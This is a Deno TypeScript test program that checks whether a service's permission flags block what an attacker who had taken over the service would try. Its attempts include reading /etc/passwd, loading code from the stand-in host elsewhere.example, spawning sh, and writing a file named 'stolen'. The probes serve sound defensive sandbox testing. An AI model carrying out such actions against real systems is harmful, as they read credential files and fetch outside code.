/**
 * What somebody would try who had taken over the service: a program to be run under the service's flags. Prints the
 * outcome of each attempt as a line of JSON.
 *
 * Arguments: the service's folder, which it may read but not write to.
 *
 * @module
 */

/** An attempt's outcome. */
export interface Outcome {
  readonly attempt: string;
  readonly refused: boolean;
}

const [folder = "."] = Deno.args;

const ATTEMPTS: Readonly<Record<string, () => unknown>> = {
  "read its own route table": () => Deno.readTextFile(`${folder}/routes.json`),
  "connect to another host": () => Deno.connect({ hostname: "elsewhere.example", port: 443 }),
  "connect to another port of its upstream's host": () => Deno.connect({ hostname: "localhost", port: 1 }),
  "load code from another host": () => import(`https://elsewhere.example/${"code"}.ts`),
  "read another file": () => Deno.readTextFile("/etc/passwd"),
  "read another variable": () => Deno.env.get("PATH"),
  "write a file": () => Deno.writeTextFile(`${folder}/stolen`, "secret"),
  "start a program": () => new Deno.Command("sh", { args: ["-c", "true"] }).output(),
};

/** Whether the runtime refused it, rather than that it failed for another reason. */
function isRefusal(error: unknown): boolean {
  if (error instanceof Deno.errors.NotCapable) return true;
  // A refused import says so in its text only.
  return error instanceof TypeError && /Requires import access|--no-remote/.test(error.message);
}

if (import.meta.main) {
  for (const [attempt, make] of Object.entries(ATTEMPTS)) {
    let refused = false;
    try {
      await make();
    } catch (error) {
      refused = isRefusal(error);
    }
    console.log(JSON.stringify({ attempt, refused } satisfies Outcome));
  }
}
